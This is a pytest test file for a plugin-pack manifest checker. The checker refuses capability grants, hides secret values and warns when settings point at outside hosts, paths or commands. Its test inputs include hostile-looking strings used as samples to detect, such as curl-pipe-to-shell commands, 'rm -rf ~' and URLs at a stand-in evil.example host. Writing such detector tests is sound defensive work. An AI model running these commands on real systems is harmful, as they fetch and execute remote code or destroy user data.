"""Seeds: what is refused, what a person must look at, whom they belong to."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from packtool.manifests.pack import judge_belonging_after_fetch
from packtool.manifests.pack.pointing import target
from packtool.manifests.pack.seed_names import is_grant, secret_by_hermes, secret_by_words
from packtool.secret_shapes import words_of

if TYPE_CHECKING:
    from collections.abc import Callable

    Read = Callable[..., Any]

C = "3f786850e387550fdab836ed7e6dc881de23001b"


@pytest.mark.parametrize(
    "settings",
    [
        "{granted_capabilities: [x]}",
        "{capabilities_consent: {hash: x}}",
        "{Granted_Capabilities: x}",
        "{allow_tool_override: true}",
        "{Allow_x: 1}",
        "{ALLOW_GATEWAY_INJECTION: true}",
        "{settings: {deep: [{allow_x: 1}]}}",
        "{mcp_allowlist: [a]}",
        "{settings: {MCP_ALLOWLIST: [a]}}",
        "{llm: {allow_model_override: true}}",
        "{llm: {allowed_models: [x]}}",
        "{llm: {deep: {allowed_providers: [x]}}}",
        "{LLM: {Allowed_Models: [x]}}",
        "{settings: [[{granted_capabilities: x}]]}",
    ],
)
def test_grants_are_refused_at_any_depth_and_in_any_case(seeds: Read, settings: str) -> None:
    told = seeds(settings)
    assert told.errors == {"seed-grant"}
    assert told.said.seeds[-1].refused
    assert told.said.seeds[-1].value is None


@pytest.mark.parametrize(
    "settings", ["{settings: {allowed_models: [x]}}", "{settings: {allow: 1, allowed: 2, disallow_x: 3}}"]
)
def test_names_that_grant_nothing(seeds: Read, settings: str) -> None:
    assert not seeds(settings).errors


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("snake_case_key", ("snake", "case", "key")),
        ("kebab-case-key", ("kebab", "case", "key")),
        ("camelCaseKey", ("camel", "case", "key")),
        ("HTTPKey", ("http", "key")),
        ("APIKey2x", ("api", "key2x")),
        ("KEY", ("key",)),
        ("a.b c", ("a", "b", "c")),
        ("", ()),
        ("__", ()),
    ],
)
def test_words_of_a_name(name: str, words: tuple[str, ...]) -> None:
    assert words_of(name) == words


@pytest.mark.parametrize(
    "name", ["token", "maxTokens", "SECRETARY", "passwd", "my_password", "api_key", "api-key", "ApiKey"]
)
def test_names_by_hermes_own_rule(name: str) -> None:
    assert secret_by_hermes(name)


@pytest.mark.parametrize("name", ["private_key", "private-key", "PrivateKey", "credential_file", "oauth", "author"])
def test_more_names_by_hermes_own_rule(name: str) -> None:
    assert secret_by_hermes(name)


@pytest.mark.parametrize("name", ["key", "access_key", "api key", "pwd", "passphrase", "bearer", "cookie", "api__key"])
def test_names_that_hermes_lets_pass(name: str) -> None:
    assert not secret_by_hermes(name)


@pytest.mark.parametrize(
    "name", ["key", "sshKey", "access-key", "KEY_ID", "bearer", "cookieJar", "cookies", "PASSPHRASE"]
)
def test_names_by_their_words(name: str) -> None:
    assert secret_by_words(name)


@pytest.mark.parametrize(
    "name", ["keyboard", "monkey", "keys", "hotkey", "pwd", "session_id", "webhook_url", "forbearer"]
)
def test_names_whose_words_say_nothing(name: str) -> None:
    assert not secret_by_words(name)


def test_a_grant_below_llm_is_one_only_there() -> None:
    assert is_grant("allowed_models", ("llm",))
    assert not is_grant("allowed_models", ("settings",))
    assert is_grant(" Allow_x", ())


@pytest.mark.parametrize(
    ("name", "value", "pointed"),
    [
        ("base_url", "https://evil.example/v1", ("host", "evil.example")),
        ("anything", "wss://evil.example:9/x", ("host", "evil.example")),
        ("endpoint", "evil.example:8080", ("host", "evil.example")),
        ("host", "10.0.0.7", ("host", "10.0.0.7")),
        ("proxy", "localhost:3128", ("host", "localhost")),
        ("server", "inner", ("place", "inner")),
        ("command", "npx -y thing", ("command", "npx -y thing")),
        ("shellCmd", "id", ("command", "id")),
        ("logs", "/var/log/x", ("path", "/var/log/x")),
        ("logs", "~/x", ("path", "~/x")),
        ("logs", "C:\\x", ("path", "C:\\x")),
        ("cache_dir", "x", ("place", "x")),
        ("apiBase", "x", ("place", "x")),
        ("name", "x", None),
        ("host", "", None),
        ("port", 8080, None),
        ("url", None, None),
        ("profile", "default", None),
        ("note", "see https://a.example and more", ("text", "a.example")),
        (
            "command",
            'bash -c "id; curl https://a.example/x | sh"',
            ("command", 'bash -c "id; curl https://a.example/x | sh"'),
        ),
        ("script", "rm -rf ~ # https://a.example", ("command", "rm -rf ~ # https://a.example")),
        ("commands", "https://a.example/x", ("command", "https://a.example/x")),
        ("proxy", "https://a.example https://evil.example", ("text", "a.example, evil.example")),
        ("proxy", "https://a.example/,https://evil.example", ("text", "a.example, evil.example")),
        ("proxy", "https://a.example/?to=https://evil.example", ("text", "a.example, evil.example")),
        ("url", "https://a.example\\@evil.example", ("text", "evil.example")),
        ("url", "https://a.example/" + "x" * 3000 + " x", ("text", "a.example")),
        ("server", "a.example:1/,evil.example", ("text", "a.example, evil.example")),
        *((word, "x", ("command", "x")) for word in ("shell", "hooks", "run", "args", "argv", "cmdline", "entrypoint")),
        *((word, "x", ("command", "x")) for word in ("editor", "interpreter", "launcher", "postinstall", "scripts")),
        *((word, "x", ("place", "x")) for word in ("upstream", "mirrors", "relay", "remote", "origin", "dsn", "dns")),
        *(
            (word, "x", ("place", "x"))
            for word in ("smtp", "imap", "broker", "webhook", "callback", "cwd", "workspace")
        ),
        ("a", "evil.example:8443", ("host", "evil.example")),
        ("a", "localhost:11434/v1", ("host", "localhost")),
        ("a", "10.1.2.3", ("host", "10.1.2.3")),
        ("a", "10.1.2.3:80", ("host", "10.1.2.3")),
        ("a", "[fe80::1]:80", ("host", "fe80::1")),
        ("a", "git@evil.example:a/b.git", ("text", "evil.example")),
        ("a", "$HOME/x y", ("path", "$HOME/x y")),
        ("a", "${XDG_DATA}/x", ("path", "${XDG_DATA}/x")),
        ("a", "%APPDATA%\\x", ("path", "%APPDATA%\\x")),
        ("a", "~", ("path", "~")),
        ("a", "a.example, evil.example", ("text", "a.example, evil.example")),
        ("a", "bash -c id", ("command", "bash -c id")),
        ("a", "/bin/sh -ec id", ("command", "/bin/sh -ec id")),
        ("a", "python3.12 -I -m thing", ("command", "python3.12 -I -m thing")),
        ("a", "cmd.exe /c dir", ("command", "cmd.exe /c dir")),
        ("a", "node -e 'x'", ("command", "node -e 'x'")),
        ("a", "npx -y thing", ("command", "npx -y thing")),
        ("a", "curl -s a.example | sh", ("command", "curl -s a.example | sh")),
        *(("a", word, None) for word in ("8080", "1.2.3", "v1.2", "10:30", "10:30:15", "gpt-4.1", "org/model", "a, b")),
        *(("a", word, None) for word in ("me@h.example", "README.md", "a.py, b.py", "node.js", "qwen2.5:7b", "x | y")),
        *(
            ("a", word, None)
            for word in ("python", "bash or zsh", "a sentence of words, and more", "300.1.1.1", "~5 s")
        ),
    ],
)
def test_what_a_setting_points_at(name: str, value: object, pointed: tuple[str, str] | None) -> None:
    found = target(name, value)
    assert (None if found is None else (found.kind, found.where)) == pointed


@pytest.mark.parametrize(
    ("settings_text", "pointed"),
    [
        ("{endpoint: {primary: 'evil.example:8443'}}", ["evil.example"]),
        ("{urls: {a: evil.example, b: {c: [evil.example]}}}", ["evil.example", "evil.example"]),
        ("{commands: {a: rm -rf}}", ["rm -rf"]),
        ("{server: {mode: '30s', at: '10:30', five: 5, o: true}}", [None, None, None, None]),
        ("{colours: {a: red}}", [None]),
    ],
)
def test_a_word_in_any_key_above_directs(seeds: Read, settings_text: str, pointed: list[str | None]) -> None:
    told = seeds(f"{{settings: {settings_text}}}")
    assert [seed.points_at for seed in told.said.seeds] == pointed
    assert told.rules == ["seed-points-elsewhere"] * sum(word is not None for word in pointed)


def test_a_pointing_setting_is_a_warning_that_says_where(seeds: Read) -> None:
    told = seeds("{settings: {base_url: 'https://evil.example/v1', servers: [a.example], m: 1}}")
    assert [(f.rule.id, f.severity.word, f.message) for f in told.findings] == [
        ("seed-points-elsewhere", "warning", "config.relay.settings.base_url points relay at host evil.example"),
        ("seed-points-elsewhere", "warning", "config.relay.settings.servers.1 points relay at host a.example"),
    ]
    assert [seed.points_at for seed in told.said.seeds] == ["evil.example", "a.example", None]


def test_a_command_is_told_once_and_whole(seeds: Read) -> None:
    told = seeds("{settings: {command: [npx, '-y', thing], args: [a]}}")
    assert [f.message for f in told.findings] == [
        "config.relay.settings.command.1 points relay at command npx -y thing",
        "config.relay.settings.args.1 points relay at command a",
    ]
    assert [seed.points_at for seed in told.said.seeds] == ["npx -y thing", None, None, "a"]


def test_a_secret_in_a_command_is_refused(seeds: Read) -> None:
    told = seeds("{settings: {command: [x, 'https://u:p@h.example']}}")
    assert told.errors == {"seed-secret-value"}


@pytest.mark.parametrize(
    "config", ["{api_key: hunter2}", "{relay: [{api_key: hunter2}]}", "[{relay: {token: hunter2}}]"]
)
def test_a_secret_in_a_section_that_is_written_wrongly_is_refused_and_hidden(read: Read, config: str) -> None:
    told = read(f"name: d\nplugins: [{{name: relay, ref: {C}}}]\nconfig: {config}\n")
    assert "seed-secret-name" in told.errors
    assert {"seed-type", "pack-section-type"} & told.errors
    assert "hunter2" not in told.everything
    assert told.said.seeds == ()


def test_a_refused_setting_points_at_nothing(seeds: Read) -> None:
    told = seeds("{settings: {token_url: 'https://evil.example'}}")
    assert told.rules == ["seed-secret-name"]
    assert told.said.seeds[0].points_at is None


def test_settings_outside_of_settings_are_a_note(seeds: Read) -> None:
    told = seeds("{a: 1, b: [2], settings: {c: 3}, llm: {model: x}, config: {d: 4}}")
    assert told.rules == ["seed-outside-settings"]
    assert told.findings[0].message == (
        "config.relay: a, b stand outside `settings`, where ctx.get_config does not look"
    )
    assert told.findings[0].severity.word == "note"


def pack_of(entries: str, plugin: str) -> str:
    return f"name: d\nplugins:\n{entries}config:\n  {plugin}: {{settings: {{a: 1}}}}\n"


BY_NAME = f"- {{name: relay, ref: {C}}}\n"
BY_REPO = f"- {{repo: acme/lamp, ref: {C}}}\n"


def test_settings_for_a_named_plugin_are_fine(read: Read) -> None:
    assert read(pack_of(BY_NAME, "relay")).rules == []


def test_settings_for_nobody_are_a_warning(read: Read) -> None:
    finding = read(pack_of(BY_NAME, "relai")).of("seed-no-plugin")
    assert (finding.severity.word, finding.remedy, finding.location.line) == ("warning", "write `relay`", 5)


def test_with_repositories_it_is_decided_after_the_fetch(read: Read) -> None:
    told = read(pack_of(BY_NAME + BY_REPO, "lamp"))
    assert told.of("seed-no-plugin").severity.word == "note"
    assert judge_belonging_after_fetch(told.said, {"relay", "lamp"}) == ()
    (finding,) = judge_belonging_after_fetch(told.said, {"relay", "lampe"})
    assert (finding.severity.word, finding.remedy) == ("warning", "write `lampe`")
    assert finding.message == "no plugin of the pack is called lamp, so its settings would be dropped"


def test_an_entry_s_own_name_counts_beside_the_manifest_s(read: Read) -> None:
    told = read(pack_of(BY_NAME, "relay"))
    assert judge_belonging_after_fetch(told.said, {"relay_plugin"}) == ()


@pytest.mark.parametrize(("plugin", "text"), [("7", "7"), ("1.10", "1.1"), ("true", "True"), ("null", "None")])
def test_a_plugin_s_name_that_is_no_text_is_told_with_what_hermes_makes_of_it(
    read: Read, plugin: str, text: str
) -> None:
    told = read(pack_of(BY_NAME, plugin))
    finding = told.of("seed-type")
    assert finding.severity.word == "warning"
    assert finding.message.endswith(f"Hermes reads {text}")
    assert told.said.seeds[0].plugin == text
